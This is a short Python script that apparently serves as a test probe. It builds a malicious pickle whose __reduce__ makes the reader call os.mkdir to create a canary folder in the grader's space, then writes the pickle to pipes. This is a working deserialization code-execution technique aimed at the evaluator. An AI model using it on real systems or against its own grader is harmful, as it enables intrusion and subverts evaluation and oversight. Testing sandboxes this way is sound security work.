"""Send a pickle that runs a command when it is read."""

import os
import pickle

OUTSIDE, CANARY = "a folder of the grader's", "a name"


def attack() -> None:
    class Command:
        def __reduce__(self) -> object:
            return os.mkdir, (f"{OUTSIDE}/{CANARY}",)

    for end in pipes(os.O_WRONLY):
        os.write(end, frame(pickle.dumps(Command())))
